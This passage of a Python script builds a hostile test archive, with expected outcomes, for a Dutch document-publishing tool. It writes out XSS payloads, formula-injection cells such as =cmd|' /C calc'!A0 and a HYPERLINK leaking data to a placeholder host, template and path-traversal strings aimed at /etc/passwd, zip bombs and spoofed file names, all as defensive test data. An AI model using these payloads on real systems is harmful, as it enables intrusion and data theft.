            + b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nLaag %d.\r\n" % level
            + b"--" + boundary + b'\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename="laag-%d.eml"\r\n\r\n' % (level - 1)
            + inner + b"\r\n--" + boundary + b"--\r\n"
        )
    a.file("email/geneste-berichten-200.eml", inner, "document", "deep_nesting", [
        "no stack overflow: 200 emails each attached to the next",
        "either every level is published once (200 documents) or the depth cap is reported",
    ], kind="email")

    big = make_pdf([["Grote bijlage van %d MB." % big_attachment_mb]],
                   extra_objects=[stream_obj(noise("big-attachment", big_attachment_mb << 20))])
    mail = multipart_email(base_headers("Bijlage van %d MB" % big_attachment_mb, next(n)), "Zie de grote bijlage.\n",
                           [attachment_part(big, b'filename="groot.pdf"')])
    a.file("email/bijlage-%dmb.eml" % big_attachment_mb, mail, "documents", "large", [
        "the email and its %d MB PDF attachment are both published" % big_attachment_mb,
        "the attachment's original is offered for download",
        "peak memory stays under 1 GiB",
    ], count=2, kind="email", attachments=[{"name": "groot.pdf", "outcome": "document"}])

    html_cases = [
        ("html-img-onerror.eml", '<p>Afbeelding:</p><img src=x onerror=alert(1)><p>Einde img.</p>',
         "no <img> with onerror in the output; the words 'Afbeelding' and 'Einde img' are published"),
        ("html-javascript-link.eml", '<p>Klik <a href="javascript:alert(1)">hier</a> voor het verslag.</p>',
         "the link text 'hier' is published; no href='javascript:…' in the output"),
        ("html-meta-refresh.eml",
         '<html><head><meta http-equiv="refresh" content="0;url=https://example.invalid"></head>'
         '<body><p>Doorverwijzing.</p></body></html>',
         "no <meta http-equiv=refresh> in the output; the page does not redirect"),
        ("html-iframe.eml", '<p>Voor</p><iframe src="https://example.invalid/"></iframe><p>Na het kader.</p>',
         "no <iframe> in the output; 'Na het kader' is published"),
        ("html-svg-onload.eml", '<svg onload=alert(1)><circle r="1"/></svg><p>Na de svg.</p>',
         "no <svg> with onload in the output; 'Na de svg' is published"),
        ("html-alles.eml",
         '<base href="https://example.invalid/"><link rel="stylesheet" href="https://example.invalid/x.css">'
         '<style>@import url(https://example.invalid/y.css); body{background:url(javascript:alert(1))}</style>'
         '<object data="x.swf"></object><embed src="x.swf"><form action="https://example.invalid/"><input name=w></form>'
         '<p onclick="alert(1)">Alle trucs tegelijk.</p><script>alert(1)</script>',
         "none of base, link, style, object, embed, form, input or script reaches the output; 'Alle trucs tegelijk' is published"),
    ]
    for file_name, html, check in html_cases:
        mail = simple_email(base_headers("Alleen HTML: " + file_name, next(n)),
                            ("<html><body>%s</body></html>\n" % html) if "<html" not in html else html + "\n",
                            "text/html; charset=utf-8")
        a.file("email/" + file_name, mail, "document", "hostile_html", [check, NO_SCRIPT], kind="email")

    corrupt = simple_pdf("Kapotte bijlage")[:150]
    mail = multipart_email(base_headers("Met een kapotte PDF", next(n)), "De bijlage is kapot.\n",
                           [attachment_part(corrupt, b'filename="kapot.pdf"')])
    a.file("email/bijlage-kapotte-pdf.eml", mail, "document", "corrupt_attachment", [
        "the email is published",
        "'email/bijlage-kapotte-pdf.eml#kapot.pdf' is named in the failures as damaged",
    ], count=1, kind="email", attachments=[{"name": "kapot.pdf", "outcome": "failed", "reason": "corrupt"}])

    locked = encrypted_pdf(["Versleutelde bijlage."], b"bijlage", b"eigenaar2", "Versleutelde bijlage")
    mail = multipart_email(base_headers("Met een versleutelde PDF", next(n)), "De bijlage heeft een wachtwoord.\n",
                           [attachment_part(locked, b'filename="versleuteld.pdf"')])
    a.file("email/bijlage-versleutelde-pdf.eml", mail, "document", "encrypted_attachment", [
        "the email is published",
        "'email/bijlage-versleutelde-pdf.eml#versleuteld.pdf' is named in the failures as encrypted",
    ], count=1, kind="email", attachments=[{"name": "versleuteld.pdf", "outcome": "failed", "reason": "encrypted"}])

    same = attachment_pdf("twee keer dezelfde")
    mail = multipart_email(base_headers("Twee dezelfde bijlagen", next(n)), "Twee keer dezelfde bijlage.\n",
                           [attachment_part(same, b'filename="een.pdf"'), attachment_part(same, b'filename="twee.pdf"')])
    a.file("email/twee-dezelfde-bijlagen.eml", mail, "documents", "duplicate", [
        "one document for the two identical attachments, listing both places",
    ], count=2, kind="email", attachments=[{"name": "een.pdf", "outcome": "document"},
                                           {"name": "twee.pdf", "outcome": "document", "duplicate_of": "een.pdf"}])

    dates = [
        ("datum-jaar-292277026596.eml", "Thu, 1 Jan 292277026596 00:00:00 +0000"),
        ("datum-onzin.eml", "gisteren rond de middag, denk ik"),
        ("datum-31-februari.eml", "Mon, 31 Feb 2025 10:00:00 +0100"),
        ("datum-tijdzone-onzin.eml", "Mon, 3 Mar 2025 25:61:61 +9999"),
    ]
    for file_name, date in dates:
        a.file("email/" + file_name,
               simple_email(base_headers("Datum: " + file_name, next(n), date=date), "Tekst zonder datum erin.\n"),
               "document", "bad_date", [
                   "date left out (null) and the bad Date header reported as a warning",
                   "no panic or overflow; the timeline and /jaar/ have no entry for it",
               ], kind="email")

    subject = ("heel lang onderwerp " * 110000)[: 2 * 1024 * 1024]
    a.file("email/onderwerp-2mb.eml", simple_email(base_headers(subject, next(n)), "Kort.\n"),
           "document", "huge_header", [
               "published; the title in lists and the <title> element is shortened",
               "the build does not repeat the 2 MB subject in every listing (the site stays small)",
           ], kind="email")

    a.file("email/onderwerp-5.1.2e.eml",
           simple_email(base_headers("RE: 5.1.2e", next(n)), "Zie onderwerp.\n"),
           "document", "code_in_header", [
               "the title is not empty (the subject is only a redaction code after 'RE:')",
               "'5.1.2e' is not read as a date or a version number",
           ], kind="email")

    raw = (b"From: Jos\xe9 M\xfcller <jose@voorbeeld.example>\r\n"
           b"To: Ren\xe9e <renee@voorbeeld.example>\r\n"
           b"Subject: Caf\xe9 overleg Br\xfcssel \x80 2025\r\n"
           b"Date: Tue, 4 Mar 2025 09:00:00 +0100\r\n"
           b"MIME-Version: 1.0\r\n"
           b"Content-Type: text/plain\r\n\r\n"
           b"Tekst met een \xe9 in een bericht zonder tekenset.\r\n")
    a.file("email/latin1-koppen.eml", raw, "document", "encoding", [
        "the subject reads 'Café overleg Brüssel € 2025' (bytes taken as windows-1252), no U+FFFD",
        "the sender reads 'José Müller <jose@voorbeeld.example>'",
    ], kind="email")

    a.file("email/alleen-koppen.eml", header_lines(base_headers("Alleen kopregels, geen tekst", next(n))),
           "document", "empty_body", ["published with its subject and an empty body"], kind="email")

    a.file("email/geen-kopregels.eml", b"Dit bestand heet .eml maar heeft geen kopregels.\nAlleen tekst.\n",
           "failed", "corrupt", ["named in the failures: named .eml but has no email headers"])

    a.file("email/tekst-is-email.txt",
           simple_email(base_headers("Een e-mail met de naam .txt", next(n)), "Herkend aan de inhoud.\n"),
           "document", "content_over_name", ["read as an email (kind email), not as text"], kind="email")


def asctime(moment):
    """`Mon Mar  3 09:07:00 2025`, the date of an mbox From line, in any locale."""
    day = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"][moment.weekday()]
    month = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()[moment.month - 1]
    return "%s %s %2d %02d:%02d:%02d %d" % (day, month, moment.day, moment.hour, moment.minute,
                                             moment.second, moment.year)


def mbox_message(i, total):
    body = "Bericht %d van %d.\n" % (i, total)
    if i == 7:
        body += ">From the start of a line, escaped the mboxrd way.\n"
    sent = datetime.datetime(2025, 3, 1 + i % 28, 9, i % 60, (i // 60) % 60, tzinfo=CET)
    return (
        "From afzender%d@voorbeeld.example %s\n" % (i, asctime(sent))
        + "From: Afzender %d <afzender%d@voorbeeld.example>\n" % (i, i)
        + "To: griffie@gemeente.example\n"
        + "Subject: Bericht %04d van %d\n" % (i, total)
        + "Date: %s\n" % email.utils.format_datetime(sent)
        + "Message-ID: <mbox-%d-%d@openbaar.example>\n" % (total, i)
        + "\n" + body + "\n"
    ).encode()


def mbox_cases(a, messages):
    data = b"".join(mbox_message(i, messages) for i in range(1, messages + 1))
    a.file("mbox/%d-berichten.mbox" % messages, data, "documents", "many_messages", [
        "%d emails are published, one per message" % messages,
        "the build does not hold the text of all messages more than a few times in memory (peak under 1 GiB)",
    ], count=messages, kind="email")

    parts = []
    bad = []
    for i in range(1, 11):
        envelope = b"From onleesbaar@voorbeeld.example Tue Mar  4 10:%02d:00 2025\n" % i  # a Tuesday
        if i == 3:
            parts.append(envelope + noise_without("mbox-junk-3", 300) + b"\n\n")
        elif i == 6:
            parts.append(envelope + b"\n")
        elif i == 9:
            parts.append(envelope + b"X-Onzin: geen afzender, onderwerp of datum\n\n\x00\x01\x02\n\n")
        else:
            parts.append(envelope + mbox_message(1000 + i, 10).split(b"\n", 1)[1])
            continue
        bad.append(i)
    a.file("mbox/deels-onleesbaar.mbox", b"".join(parts), "documents", "partly_corrupt", [
        "the 7 readable messages are published",
        "the 3 unreadable messages (numbers 3, 6 and 9) are named in the failures with the mailbox's name",
    ], count=7, kind="email",
        parts=[{"message": i, "outcome": "failed", "reason": "corrupt"} for i in bad])

    a.file("mbox/leeg.mbox", b"", "failed", "empty", ["named in the failures: an empty mailbox"])


def text_cases(a, quick):
    a.file("tekst/latin1.txt",
           "Caf\u00e9 in Belgi\u00eb: co\u00f6rdinatie \u00ab pr\u00e9-advies \u00bb, 12\u00b0 ge\u00efnd.\n".encode("latin-1"),
           "document", "encoding", [
               "the text reads 'Café in België: coördinatie « pré-advies », 12° geïnd.', no U+FFFD",
               "encoding reported as iso-8859-1 or windows-1252",
           ], kind="text")
    a.file("tekst/windows-1252.txt",
           "Kosten \u20ac 1.250 voor \u201cpr\u00e9-advies\u201d \u2013 \u2018Belgi\u00eb\u2019 \u2026\n".encode("cp1252"),
           "document", "encoding", [
               "the text reads 'Kosten € 1.250 voor “pré-advies” – ‘België’ …', no U+FFFD",
               "encoding reported as windows-1252",
           ], kind="text")
    a.file("tekst/utf16-bom.txt",
           ("\ufeffUTF-16 met BOM: \u00e9\u00e9n co\u00f6rdinator, \u20ac 5.\n").encode("utf-16-le"),
           "document", "encoding", [
               "the text reads 'UTF-16 met BOM: één coördinator, € 5.' without the BOM or NUL bytes",
               "encoding reported as utf-16le",
           ], kind="text")
    a.file("tekst/utf16be-bom.txt",
           ("\ufeffUTF-16 big-endian: \u00e9\u00e9n rapport.\n").encode("utf-16-be"),
           "document", "encoding", [
               "the text reads 'UTF-16 big-endian: één rapport.'",
               "encoding reported as utf-16be",
           ], kind="text")
    a.file("tekst/utf8-bom.txt", "\ufeffUTF-8 met BOM: titel zonder onzichtbaar teken.\n".encode("utf-8"),
           "document", "encoding", ["the title and text do not start with U+FEFF"], kind="text")
    a.file("tekst/nullen.txt", bytes(65536), "failed", "not_text", [
        "named in the failures: named .txt but holds only NUL bytes",
    ])
    line_mb = 5
    a.file("tekst/een-regel-%dmb.txt" % line_mb,
           "".join("woord%d " % (i % 997) for i in range(line_mb << 17)).encode()[: line_mb << 20],
           "document", "large", [
               "published; the single line becomes paragraphs of bounded length",
               "the search index builds and finds 'woord996'",
           ], kind="text")
    a.file("tekst/een-woord-1mb.txt", b"Begin " + b"x" * (1 << 20) + b" eind\n", "document", "long_token", [
        "published; the search index builds (the 1 MB word is dropped or cut, tantivy's term limit is not hit)",
        "'eind' is found by search",
    ], kind="text")
    a.file("tekst/.hidden.txt", b"Verborgen bestand.\n", "skipped", "hidden", [
        "named as not read (hidden), never published",
    ])
    a.file("tekst/.verborgen-map/binnen.txt", b"In een verborgen map.\n", "skipped", "hidden", [
        "not published (its folder is hidden); the folder is named as not read",
    ])
    a.file("tekst/formules.txt",
           ("Notitie met formules.\n"
            "=cmd|' /C calc'!A0 werd besproken op 16 september 2025.\n"
            "@SUM(1+1) stond in het verslag van 17 september 2025.\n"
            "+31 6 12345678 belde op 18 september 2025.\n"
            "-2+3 volgens de notitie van 19 september 2025.\n").encode(),
           "document", "formula_injection", [
               "the text shows the formulas literally",
               "tijdlijn.csv cells for these events start with a quote (') and never with =, +, - or @",
           ], kind="text")
    a.file("tekst/shortcode.md",
           ('# Verslag\n\n{{ youtube(id="x") }}\n\n{% youtube(id="y") %}body{% end %}\n\n'
            "{{ get_env(name=\"HOME\") }} {{ load_data(path=\"/etc/passwd\") }}\n").encode(),
           "document", "hostile_text", [
               "the page shows '{{ youtube(id=\"x\") }}' literally; no video embedded",
               "no environment variable or /etc/passwd content appears in the output",
           ], kind="text")
    a.file("tekst/markdown-html.md",
           ("# Kop\n\n<script>alert(1)</script>\n\n[klik](javascript:alert(1))\n\n"
            "![x](x\" onerror=\"alert(1))\n\n<details open ontoggle=alert(1)>x</details>\n").encode(),
           "document", "hostile_text", [
               "the Markdown is shown as text, not rendered to HTML",
               NO_SCRIPT,
           ], kind="text")
    a.file("tekst/voorpagina.txt",
           b'+++\ntitle = "overschreven"\ntemplate = "../../etc/passwd"\n+++\nDe tekst na de kopregels.\n',
           "document", "hostile_text", [
               "the '+++' block is shown as text; the title is not 'overschreven' and no template is loaded",
           ], kind="text")
    a.file("tekst/bidi-en-nulbreedte.txt",
           "Bedrag \u202e0001\u202c euro, na\u200bam \u200dmet nul\u00adbreedte en \u0000 NUL.\n".encode(),
           "document", "control_chars", [
               "published; the NUL is not written into the TOML front matter or HTML",
               "bidirectional override characters cannot reorder the rest of the page",
           ], kind="text")


def inventory_cases(a, rows_big):
    def csv_bytes(rows, delimiter=";", encoding="utf-8"):
        buf = io.StringIO()
        writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
        writer.writerows(rows)
        return buf.getvalue().encode(encoding)

    header = ["ID", "Document", "Datum", "Beoordeling", "Beoordelingsgrond"]

    a.file("inventaris/kapot-xlsx/inventory.xlsx",
           zip_file(XLSX_PARTS + [("xl/worksheets/sheet1.xml", noise("sheet-junk", 4096))]),
           "failed", "corrupt", ["named in the failures as an inventory list that cannot be read"])
    a.file("inventaris/kapot-xlsx/K-1.txt", b"Document naast een kapotte inventarislijst.\n",
           "document", "valid", ["published without an inventory row"], kind="text")

    a.file("inventaris/geen-zip-xlsx/inventory.xlsx", b"PK\x03\x04" + noise("not-a-zip", 8192),
           "failed", "corrupt", ["named in the failures as an inventory list that cannot be read"])

    bomb, size = xlsx_bomb(520)
    a.file("inventaris/zipbom/inventory.xlsx", bomb, "failed", "bomb", [
        "its sheet inflates to %d MB from %d KB: peak memory stays under 1 GiB" % (size >> 20, len(bomb) >> 10),
        "named in the failures with a reason saying it inflates beyond the limit",
        "no withheld documents are made from it",
    ])
    bomb, _ = xlsx_bomb(520, lie=True)
    a.file("inventaris/zipbom-liegt/inventory.xlsx", bomb, "failed", "bomb", [
        "the zip says the sheet is 4 KB, it inflates to over 500 MB: the limit is enforced on the bytes inflated, not the size declared",
        "named in the failures",
    ])

    rows = [header,
            ["DOC-001", '=HYPERLINK("https://example.invalid/?d="&A1;"klik")', "2025-01-01", "Openbaar", ""],
            ["DOC-002", "=cmd|' /C calc'!A0", "2025-01-02", "Deels openbaar", "5.1.2e"],
            ["DOC-003", "@SUM(1+1)", "2025-01-03", "Niet openbaar", "5.1.2e; 5.1.2i"],
            ["DOC-004", "+31612345678", "2025-01-04", "Niet openbaar", "5.1.1c"],
            ["DOC-005", "-2+3", "2025-01-05", "Niet openbaar", "=1+1"],
            ["DOC-006", "\t=1+1", "2025-01-06", "Niet openbaar", ""]]
    a.file("inventaris/formules/inventarislijst.csv", csv_bytes(rows), "inventory", "formula_injection", [
        "rows DOC-001 and DOC-002 are attached to DOC-001.txt and DOC-002.txt",
        "rows DOC-003 to DOC-006 become withheld documents whose titles show the formulas as text",
        "csv export cell starts with a quote: in tijdlijn.csv no cell starts with =, +, -, @ or a tab",
    ], inventory={"rows": 6, "matched": {"DOC-001": "DOC-001.txt", "DOC-002": "DOC-002.txt"}, "withheld": 4})
    for doc in ("DOC-001", "DOC-002"):
        a.file("inventaris/formules/%s.txt" % doc, ("Document %s uit de lijst met formules.\n" % doc).encode(),
               "document", "valid", ["carries the inventory row %s" % doc], kind="text", inventory_row=doc)

    rows = [["Kolom A", "Kolom B", "Kolom C"],
            ["X-17", "Verslag overleg", "Openbaar"],
            ["X-18", "Nota", "Niet openbaar"]]
    a.file("inventaris/geen-id-kolom/inventarislijst.csv", csv_bytes(rows), "failed", "no_id_column", [
        "never silently ignored: named in the failures (no ID column) or its IDs found from the file names",
    ], accept=["inventory"])
    a.file("inventaris/geen-id-kolom/X-17.txt", b"Verslag overleg X-17.\n", "document", "valid",
           ["published"], kind="text")

    rows = [header, ["2", "Besluit", "2025-02-01", "Openbaar", ""]]
    a.file("inventaris/kort-id/inventarislijst.csv", csv_bytes(rows), "inventory", "short_id", [
        "row '2' is not attached to bijlage-2-bij-besluit.txt",
        "row '2' becomes a withheld document",
    ], inventory={"rows": 1, "matched": {}, "withheld": 1})
    a.file("inventaris/kort-id/bijlage-2-bij-besluit.txt", b"Bijlage 2 bij het besluit.\n", "document", "short_id",
           ["has no inventory row"], kind="text", inventory_row=None)

    rows = [header, ["2", "Besluit", "2025-02-02", "Openbaar", ""]]
    a.file("inventaris/kort-id-met-bestand/inventarislijst.csv", csv_bytes(rows), "inventory", "short_id", [
        "row '2' is attached to 2.txt, not to bijlage-2-bij-besluit.txt",
    ], inventory={"rows": 1, "matched": {"2": "2.txt"}, "withheld": 0})
    a.file("inventaris/kort-id-met-bestand/2.txt", b"Document 2, het besluit.\n", "document", "short_id",
           ["carries the inventory row 2"], kind="text", inventory_row="2")
    a.file("inventaris/kort-id-met-bestand/bijlage-2-bij-besluit.txt", b"Bijlage 2 bij besluit twee.\n",
           "document", "short_id", ["has no inventory row"], kind="text", inventory_row=None)

    judgements = ["Openbaar", "Deels openbaar", "Niet openbaar", "Reeds openbaar"]
    grounds = ["", "5.1.2e", "5.1.2e; 5.1.2i", "5.2.1"]
    rows = [header] + [
        ["G-%06d" % i, "Document G-%06d" % i, "2024-%02d-%02d" % (1 + i % 12, 1 + i % 28),
         judgements[i % 4], grounds[i % 4]]
        for i in range(1, rows_big + 1)
    ]
    last = "G-%06d" % rows_big
    a.file("inventaris/groot/inventarislijst.csv", csv_bytes(rows), "inventory", "large", [
        "all %d rows are read" % rows_big,
        "G-000001 and %s are attached to their files; the other %d rows become withheld documents" % (last, rows_big - 2),
        "matching rows to files does not take rows × files time (finishes in seconds)",
    ], inventory={"rows": rows_big, "matched": {"G-000001": "G-000001.txt", last: last + ".txt"},
                  "withheld": rows_big - 2})
    for doc in ("G-000001", last):
        a.file("inventaris/groot/%s.txt" % doc, ("Document %s uit de grote lijst.\n" % doc).encode(),
               "document", "valid", ["carries the inventory row %s" % doc], kind="text", inventory_row=doc)

    rows = [["ID", "Titel", "Datum", "Beoordeling"],
            ["W-1", "Caf\u00e9-overleg \u201cspoed\u201d \u20ac", "03-02-2025", "Deels openbaar"]]
    a.file("inventaris/windows-1252-csv/inventarislijst.csv", csv_bytes(rows, encoding="cp1252"),
           "inventory", "encoding", [
               "row W-1's title reads 'Café-overleg “spoed” €' (windows-1252), no U+FFFD",
           ], inventory={"rows": 1, "matched": {"W-1": "W-1.txt"}, "withheld": 0})
    a.file("inventaris/windows-1252-csv/W-1.txt", b"Caf\xe9-overleg, het document zelf.\n", "document", "encoding",
           ["carries the inventory row W-1"], kind="text", inventory_row="W-1")

    rows = [["ID", "Document", "Datum", "Beoordeling"],
            ["X-1", ("f", 'HYPERLINK("https://example.invalid/","klik")', "klik"), "2025-03-01", "Openbaar"],
            ["X-2", "=cmd|' /C calc'!A0", "2025-03-02", "Niet openbaar"],
            ["X-3", "<script>alert(1)</script>", "2025-03-03", "Niet openbaar"]]
    a.file("inventaris/xlsx-formules/inventory.xlsx", xlsx(rows), "inventory", "formula_injection", [
        "row X-1 is attached to X-1.txt, its title is the cached value 'klik', never evaluated",
        "rows X-2 and X-3 become withheld documents with their titles shown as text",
        "csv export cell starts with a quote for '=cmd…'",
        NO_SCRIPT,
    ], inventory={"rows": 3, "matched": {"X-1": "X-1.txt"}, "withheld": 2})
    a.file("inventaris/xlsx-formules/X-1.txt", b"Document X-1.\n", "document", "valid",
           ["carries the inventory row X-1"], kind="text", inventory_row="X-1")


def name_cases(a):
    a.file("namen/met spaties in de naam.txt", b"Naam met spaties.\n", "document", "hostile_name",
           ["published; its download link is URL-encoded and works"], kind="text")
    nfc = unicodedata.normalize("NFC", "\u00e9\u00e9\u00e9.pdf")
    nfd = unicodedata.normalize("NFD", nfc)
    a.file("namen/" + nfc, simple_pdf("Naam in NFC: drie keer e-accent-aigu."), "document", "unicode_name",
           ["published as its own document"], kind="pdf")
    a.file("namen/" + nfd, simple_pdf("Naam in NFD: dezelfde naam, andere bytes."), "document", "unicode_name",
           ["published as its own document, distinct from the NFC twin; neither overwrites the other's download"],
           kind="pdf")
    a.file("namen/\u65e5\u672c.txt", "\u65e5\u672c\u8a9e\u306e\u6587\u66f8\u3002\n".encode(), "document",
           "unicode_name", ["published with its text '日本語の文書。'"], kind="text")
    a.file("namen/-rf.txt", b"Naam die begint met een streepje.\n", "document", "hostile_name",
           ["published; no tool treats the name as an option"], kind="text")
    stem = ("heel-lange-naam-" * 20)[:246]
    a.file("namen/" + stem + ".txt", b"Een naam van 250 bytes.\n", "document", "long_name", [
        "published; every file written for it fits in 255 bytes per name",
    ], kind="text")
    a.file("namen/a<b>&\"c'#?%20;.txt", b"Naam met HTML- en URL-tekens.\n", "document", "hostile_name", [
        "the name is shown escaped and its download link is URL-encoded",
    ], kind="text")
    a.file("namen/regel\nbreuk.txt", b"Naam met een regeleinde.\n", "document", "hostile_name", [
        "published; the newline in the name does not break the summary, TOML or HTML",
    ], kind="text")
    a.file(b"namen/ongeldig-\xff\xfe.txt", b"Naam die geen UTF-8 is.\n", "document", "hostile_name", [
        "published (the name is shown with replacement characters) or named in the failures; never a crash",
    ], accept=["failed"], kind="text")
    a.file("namen/rapport\u202efdp.txt", b"Naam met een richtingsteken.\n", "document", "hostile_name", [
        "the right-to-left override in the name cannot disguise the extension on the page",
    ], kind="text")
    a.file("namen/_index.md", b'+++\ntitle = "Sectie overgenomen"\n+++\nEen bestand dat _index.md heet.\n',
           "document", "hostile_name", [
               "published as a document; it does not become a Zola section or replace one",
               "the '+++' block is shown as text",
           ], kind="text")
    a.file("namen/index.md", b"Een bestand dat index.md heet.\n", "document", "hostile_name", [
        "published as a document; no page bundle or section of the site is replaced",
    ], kind="text")


def link_cases(a):
    a.link("links/passwd.txt", "/etc/passwd", "skipped", "outside_archive", [
        "named as not read: the link leaves the archive",
        "'root:' from /etc/passwd appears nowhere in the output",
    ])
    a.link("links/etc", "/etc", "skipped", "outside_archive", [
        "named as not read; no file under /etc is read or published",
    ])
    a.link("links/lus-a", "lus-b", "skipped", "link_loop", ["named as not read (a loop of links)"])
    a.link("links/lus-b", "lus-a", "skipped", "link_loop", ["named as not read (a loop of links)"])
    a.link("links/ouder", "..", "skipped", "link_loop", [
        "named as not read: a folder link to its own parent; no file is read twice through it",
    ])
    a.link("links/boven-archief", "../..", "skipped", "outside_archive", [
        "named as not read: it points above the archive (at the folder holding expected.json)",
        "expected.json is not published",
    ])
    a.link("links/kapot", "bestaat-niet.pdf", "skipped", "broken_link", ["named as not read (the target does not exist)"])
    a.file("links/doel.pdf", simple_pdf("Het doel van een link binnen het archief."), "document", "valid",
           ["published once, listing links/binnen.pdf as a duplicate place"], kind="pdf")
    a.link("links/binnen.pdf", "doel.pdf", "document", "duplicate", [
        "read once: not a second page, listed as a duplicate of links/doel.pdf",
    ], duplicate_of="links/doel.pdf")
    a.file("links/echte-map/notitie.txt", b"Notitie in een map waar ook een link naar wijst.\n", "document", "valid",
           ["published once"], kind="text")
    a.link("links/map-link", "echte-map", "document", "duplicate", [
        "links/map-link/notitie.txt is not a second page: a duplicate of links/echte-map/notitie.txt, or the link is named as not read",
    ], duplicate_of="links/echte-map/notitie.txt", accept=["skipped"])
    a.fifo("links/pijp.txt", "skipped", "not_regular_file", [
        "a named pipe: never opened (opening it would block the build forever); named as not read",
    ])
    a.file("dubbel/a/zelfde.pdf", simple_pdf("Twee keer hetzelfde bestand op twee plaatsen."), "document",
           "valid", ["published once, listing dubbel/b/kopie.pdf as a duplicate place"], kind="pdf")
    a.file("dubbel/b/kopie.pdf", simple_pdf("Twee keer hetzelfde bestand op twee plaatsen."), "document",
           "duplicate", ["not a second page: a duplicate of dubbel/a/zelfde.pdf"], duplicate_of="dubbel/a/zelfde.pdf")


def format_cases(a):
    unsupported = [
        ("formaten/brief.docx", docx(), "Word"),
        ("formaten/bericht.msg", ole_msg(), "Outlook .msg"),
        ("formaten/scan.png", png(), "PNG image"),
        ("formaten/tabel.xlsx", xlsx([["Geen", "inventaris"], ["1", "2"]]), "spreadsheet that is not an inventory"),
        ("formaten/archief.zip", zip_file([("binnen.pdf", simple_pdf("In een zip."))]), "zip archive"),
        ("formaten/index.html", b"<html><body><script>alert(1)</script>Webpagina.</body></html>\n", "web page"),
        ("formaten/geen-extensie", b"Tekst zonder extensie.\n", "file without extension"),
    ]
    for path, data, what in unsupported:
        a.file(path, data, "skipped", "unsupported", [
            "named as not read (unsupported format: %s)" % what,
            "not copied into the site as a page or served under its own name",
        ])


def build(outdir, quick):
    archive = os.path.join(outdir, "archive")
    marker = os.path.join(outdir, MARKER)
    if os.path.lexists(archive):
        if not os.path.exists(marker):
            sys.exit("%s exists and was not made by this script; remove it first" % archive)
        shutil.rmtree(archive)
    os.makedirs(archive)
    with open(marker, "w") as f:
        f.write("made by tests/hostile/make-hostile-archive.py\n")

    a = Archive(archive)
    pdf_cases(a)
    email_cases(a, 1 if quick else 50)
    mbox_cases(a, 100 if quick else 5000)
    text_cases(a, quick)
    inventory_cases(a, 1000 if quick else 100000)
    name_cases(a)
    link_cases(a)
    format_cases(a)

    # The same modification time everywhere, so that archives of the output are identical too.
    for dirpath, dirnames, filenames in os.walk(os.fsencode(archive), topdown=False):
        for name in filenames + dirnames:
            os.utime(os.path.join(dirpath, name), (FIXED_MTIME, FIXED_MTIME), follow_symlinks=False)
    os.utime(archive, (FIXED_MTIME, FIXED_MTIME))

    # Every file, link and pipe on disk has exactly one entry, and nothing else has one.
    on_disk = set()
    for dirpath, dirnames, filenames in os.walk(os.fsencode(archive)):
        for name in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            on_disk.add(os.path.relpath(os.path.join(dirpath, name), os.fsencode(archive)))
    listed = [bytes.fromhex(c["path_hex"]) if "path_hex" in c else c["path"].encode() for c in a.cases]
    assert len(listed) == len(set(listed)) and set(listed) == on_disk, set(listed) ^ on_disk

    cases = sorted(a.cases, key=lambda c: c.get("path_hex") or c["path"].encode().hex())
    with open(os.path.join(outdir, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(cases, f, ensure_ascii=False, indent=1)
        f.write("\n")
    for path in (marker, os.path.join(outdir, "expected.json")):
        os.utime(path, (FIXED_MTIME, FIXED_MTIME))
    return cases


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("outdir")
    parser.add_argument("--quick", action="store_true", help="small versions of the big inputs")
    args = parser.parse_args()
    start = time.monotonic()
    cases = build(os.path.abspath(args.outdir), args.quick)
    total = sum(c.get("size_bytes", 0) for c in cases)
    print("%d cases, %.1f MB, %.1f s -> %s" % (len(cases), total / 1e6, time.monotonic() - start,
                                                os.path.join(args.outdir, "expected.json")))


if __name__ == "__main__":
    main()
